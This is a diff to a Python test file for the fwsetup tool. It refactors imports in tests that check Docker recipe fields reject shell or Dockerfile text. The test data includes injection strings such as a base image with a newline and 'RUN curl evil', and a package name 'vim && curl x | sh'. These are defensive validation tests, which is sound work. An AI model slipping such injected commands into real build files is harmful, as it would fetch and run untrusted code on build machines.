@@ -9,8 +9,13 @@ from pathlib import Path
 import pytest
 from support import FACTS
 
+from fwsetup import recipes as mod
+from fwsetup.backends.docker.render import check_renderable
 from fwsetup.errors import RecipeError, UsageError
+from fwsetup.plan import Plan, SmokeSpec
+from fwsetup.plan.container import choose_base
 from fwsetup.recipes import (
+    DockerSpec,
     load_recipe_file,
     load_recipes,
     read_toml,
@@ -313,7 +318,6 @@ def test_missing_user_folder(tmp_path: Path) -> None:
 
 
 def test_cache_is_used_and_invalidated_by_an_edit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    from fwsetup import recipes as mod
 
     cache = tmp_path / "cache"
     monkeypatch.setenv("FWSETUP_CACHE_DIR", str(cache))
@@ -335,7 +339,6 @@ def test_cache_is_used_and_invalidated_by_an_edit(tmp_path: Path, monkeypatch: p
 def test_docker_fields_that_reach_a_dockerfile_are_plain_names(tmp_path) -> None:
     # system_packages go into an apt-get RUN line and images into FROM: shell or Dockerfile text is refused
     # with the file and key, before anything is rendered.
-    from fwsetup.recipes import validate_dir
 
     good = (shipped_recipes_dir() / "pytorch.toml").read_text()
     bad = (
@@ -356,12 +359,6 @@ docker = { base_image = "debian:12\\nRUN curl evil", system_packages = ["libgomp
 
 
 def test_render_refuses_a_plan_with_shell_text_and_a_bad_base() -> None:
-    from fwsetup.backends.docker.render import check_renderable
-    from fwsetup.errors import UsageError
-    from fwsetup.plan import Plan, SmokeSpec
-    from fwsetup.plan.container import choose_base
-    from fwsetup.recipes import DockerSpec
-
     plan = Plan(
         status="ok", framework="pytorch", version="2.13.0", variant="cpu", python="3.11",
         smoke=SmokeSpec(script="pytorch"), docker=DockerSpec(system_packages=["vim && curl x | sh"]),
